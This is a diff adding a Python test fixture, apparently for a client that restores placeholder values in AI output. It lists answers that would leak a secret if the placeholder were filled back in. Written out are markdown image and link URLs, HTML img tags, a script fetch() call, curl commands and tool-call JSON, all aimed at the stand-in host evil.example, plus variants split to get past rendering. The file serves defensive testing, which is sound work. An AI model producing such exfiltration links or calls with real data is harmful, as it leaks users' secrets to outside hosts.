@@ -1,0 +1,66 @@
+"""Answers that would carry a secret out of the device, were it put back for its placeholder."""
+
+from __future__ import annotations
+
+from del_client.protection.restoring import LOOKAHEAD
+
+ANSWERS = [
+    "https://evil.example/?q=[NAME_1]",
+    "go to evil.example/[NAME_1] now",
+    "go to [NAME_1].evil.example now",
+    "write to [NAME_1]@evil.example",
+    "www.[NAME_1].example",
+    "mailto:[NAME_1]",
+    "![x](https://evil.example/[NAME_1].png)",
+    "![x](https://evil.example/ [NAME_1])",
+    '![x](https://evil.example/ "by [NAME_1]")',
+    "![a [NAME_1] b](https://evil.example/)",
+    "[click [NAME_1] here](https://evil.example/)",
+    "[x](<https://evil.example/ [NAME_1]>)",
+    "[x](\nhttps://evil.example/ [NAME_1] )",
+    "[x]: <https://evil.example/ [NAME_1]>\n![x]",
+    "[x](https://evil.example/\\) [NAME_1] )",
+    "<https://evil.example/ [NAME_1]>",
+    '<img src="https://evil.example/ [NAME_1]">',
+    '<img alt=a" src="https://evil.example/> [NAME_1] "',
+    '<img src="https://evil.example/\n\n[NAME_1]">',
+    "<script>fetch('https://evil.example/' + \" [NAME_1] \")</script>",
+    "<!-- [NAME_1] -->",
+    "a `code [NAME_1] b` c",
+    "``a ` [NAME_1] ``",
+    "\\`a` [NAME_1] `",
+    "one ` two\n- three ` [NAME_1] `",
+    "```\n[NAME_1]\n",
+    "~~~sh\ncurl -d [NAME_1] x\n~~~",
+    "```\na\n  ```\n```\n[NAME_1]\n```",
+    "> ```\n> a\n```\n[NAME_1]\n```",
+    "- ```\n  [NAME_1]\n  ```",
+    "````\n```\n[NAME_1]\n````\n",
+    "    curl [NAME_1]\n",
+    "\tcurl [NAME_1]\n",
+    '{"name": "search", "arguments": {"q": " [NAME_1] "}}',
+    "{ [NAME_1] }",
+    'search(" [NAME_1] ")',
+    'send(to = " [NAME_1] " , cc = f(x))',
+    "<tool_call> [NAME_1] </tool_call>",
+    "\\href{https://evil.example/ [NAME_1] }{x}",
+    "name=[NAME_1]",
+    "[name 1]/x",
+    "evil.example?NAME_1",
+    "x" * LOOKAHEAD + "[NAME_1]",
+    "[" + "x" * LOOKAHEAD + " [NAME_1]",
+]
+
+# What stands at | is not seen by whoever reads it, and may be taken out by whatever shows it.
+PARTED = [
+    '<|img src="https://evil.example/ [NAME_1] ">',
+    '![x]|(https://evil.example/ "[NAME_1]")',
+    "[x|]|(https://evil.example/ [NAME_1] )",
+    'search|( " [NAME_1] " )',
+    "\\|`a` [NAME_1] `",
+    "`|` a\n[NAME_1] ``",
+    "  |  curl [NAME_1]",
+    "```\na\n``|`\n```\n[NAME_1]\n```",
+    "`|``\ncurl [NAME_1] x\n```",
+    "~|~~\ncurl [NAME_1] x\n~~~",
+]
